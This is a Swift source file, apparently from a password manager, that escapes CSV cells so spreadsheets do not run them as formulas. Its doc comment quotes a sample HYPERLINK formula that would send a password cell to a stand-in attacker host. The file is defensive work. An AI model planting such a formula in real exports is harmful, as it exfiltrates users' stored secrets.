/// Keeps a CSV export from running as spreadsheet formulas (OWASP's CSV-injection advice): a
/// cell of the name, URL or notes column that begins with `=`, `+`, `-`, `@`, a tab or a
/// carriage return gets a `'` in front, which spreadsheets read as "text". An entry named
/// `=HYPERLINK("https://evil.example/?"&J2, "Bank")` would otherwise be a live formula beside
/// its password. `mystash import` takes the `'` off again, so an export imports as it was.
///
///     FormulaEscaping.escaped("=1+1")      // "'=1+1"
///     FormulaEscaping.unescaped("'=1+1")   // "=1+1"
///     FormulaEscaping.escaped("Bank")      // "Bank"
enum FormulaEscaping {
    /// The first characters a spreadsheet may take as the start of a formula.
    static let formulaStarts: Set<Character> = ["=", "+", "-", "@", "\t", "\r"]

    /// `text` with a `'` in front when it begins like a formula.
    static func escaped(_ text: String) -> String {
        guard let first = text.unicodeScalars.first, formulaStarts.contains(Character(first)) else { return text }
        return "'" + text
    }

    /// `text` without the `'` that `escaped(_:)` put in front of a formula's first character.
    static func unescaped(_ text: String) -> String {
        let scalars = text.unicodeScalars
        guard scalars.first == "'", scalars.count > 1,
            formulaStarts.contains(Character(scalars[scalars.index(after: scalars.startIndex)]))
        else { return text }
        return String(scalars.dropFirst())
    }
}
